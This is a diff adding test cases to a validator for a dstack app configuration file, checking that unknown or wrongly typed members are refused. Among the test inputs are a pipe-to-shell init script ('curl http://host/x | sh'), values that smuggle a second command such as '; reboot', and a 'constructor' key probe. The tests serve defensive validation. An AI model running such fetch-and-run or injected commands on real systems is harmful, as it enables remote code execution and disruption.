@@ -55,12 +55,63 @@ describe('members of the file', () => {
     ],
     ['names that are no list', { allowed_envs: 'A' }, only('member_of_wrong_kind allowed_envs')],
     ['a name that is no text', { allowed_envs: [1] }, only('member_of_wrong_kind allowed_envs.0')],
+    [
+      'an init script of another text, which runs as root',
+      { init_script: 'curl http://host/x | sh' },
+      only('init_script_unknown init_script'),
+    ],
+    [
+      'a member named as what every object has',
+      { constructor: {} },
+      only('member_unknown constructor'),
+    ],
     ['several init scripts', { init_script: ['a', 'b'] }, only('member_of_wrong_kind init_script')],
   ])('refuses %s', (_what, changed, expected) => {
     expect(withMembers(changed)).toEqual(expected)
   })
 
+  test.each([
+    ['kms_enabled', 'maybe'],
+    ['no_instance_id', []],
+    ['gateway_enabled', 1],
+    ['public_tcbinfo', null],
+    ['storage_fs', '; reboot'],
+    ['swap_size', '-1'],
+    ['swap_size', -1],
+    ['key_provider', 'host'],
+    ['key_provider_id', 'x'],
+    ['name', {}],
+    ['manifest_version', '2; x'],
+    ['requirements', []],
+    ['requirements', { gpu_policy: { allow_devtools: true } }],
+    ['requirements', { gpu_policy: { rego: 'package x' } }],
+    ['requirements', { platforms: 'tdx' }],
+    ['requirements', { constructor: {} }],
+  ])('refuses %s: %j, of a kind that dstack does not document', (name, value) => {
+    expect(withMembers({ [name]: value })).toEqual([`member_of_wrong_kind ${name}`])
+  })
+
   test('takes an empty pre_launch_script for none', () => {
     expect(withMembers({ pre_launch_script: '' })).toEqual([])
+  })
+
+  test.each([
+    ['no init script', { init_script: undefined }],
+    ['an empty one', { init_script: '' }],
+    ['a file system and swap', { storage_fs: 'ext4', swap_size: '16G' }],
+    ['a key provider', { key_provider: 'kms', key_provider_id: '00ff' }],
+    [
+      'requirements',
+      {
+        manifest_version: '3',
+        requirements: {
+          os_version: '>=0.6.0',
+          platforms: ['tdx'],
+          gpu_policy: { attest_gpu: true },
+        },
+      },
+    ],
+  ])('lets pass %s', (_what, changed) => {
+    expect(withMembers(changed)).toEqual([])
   })
 })
